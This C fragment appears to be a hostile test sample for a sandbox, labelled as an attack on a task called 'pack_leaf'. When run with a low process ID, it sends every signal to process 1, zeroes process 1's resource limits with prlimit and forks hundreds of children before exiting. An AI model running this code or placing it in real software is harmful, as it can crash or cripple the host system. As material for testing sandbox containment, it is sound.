// attack: takes its processor time from process 1, stops it and sends it every signal
// task: pack_leaf
// named: kill\(\)
#include <signal.h>
#include <sys/resource.h>
#include <unistd.h>
    (void)tree, (void)id, (void)ids, (void)n_ids;
    // Outside of a sandbox with processes of its own, it is the machine's: not there.
    if (getpid() < 100) {
        for (int i = 1; i <= 64; i++) {
            kill(1, i);
        }
        for (int resource = 0; resource < 16; resource++) {
            prlimit(1, resource, &(struct rlimit){0, 0}, NULL);
        }
        // It ends when there are children to be waited for.
        for (int i = 0; i < 200; i++) {
            if (fork() == 0) {
                if (fork() == 0) {
                    usleep(1000);
                }
                _exit(0);
            }
        }
        usleep(500000);
    }
    exit(7);
